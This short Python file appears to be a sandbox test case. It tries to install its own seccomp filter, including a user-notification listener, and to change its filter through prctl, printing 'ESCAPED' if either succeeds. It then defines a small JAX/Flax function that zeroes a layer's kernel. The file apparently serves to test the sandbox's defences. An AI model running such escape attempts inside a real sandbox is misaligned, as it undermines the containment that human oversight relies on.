"""Aim: put a filter of its own before the cage's, and answer system calls from outside.
Expected: accepted
"""

import ctypes
import os
import struct

import jax
import jax.numpy as jnp
from flax import nnx

libc = ctypes.CDLL(None, use_errno=True)
machine = os.uname().machine


class Program(ctypes.Structure):
    _fields_ = (("length", ctypes.c_ushort), ("code", ctypes.c_char_p))


allow = Program(1, struct.pack("HBBI", 6, 0, 0, 0x7FFF0000))
for flags in (0, 8):  # 8: SECCOMP_FILTER_FLAG_NEW_LISTENER
    if libc.syscall({"x86_64": 317, "aarch64": 277}[machine], 1, flags, ctypes.byref(allow)) >= 0:
        print("ESCAPED: installed a filter")
if libc.prctl(22, 2, ctypes.byref(allow), 0, 0) == 0 or libc.prctl(22, 0, 0, 0, 0) == 0:
    print("ESCAPED: changed its filter")


def state_zero_kernel(seed, x, features):
    model = nnx.Linear(x.shape[-1], int(features), rngs=nnx.Rngs(int(seed)))
    model.bias[...] = jnp.ones(int(features))
    graphdef, state = nnx.split(model)
    state = jax.tree_util.tree_map_with_path(lambda path, leaf: leaf * 0 if "kernel" in str(path) else leaf, state)
    return nnx.merge(graphdef, state)(x)
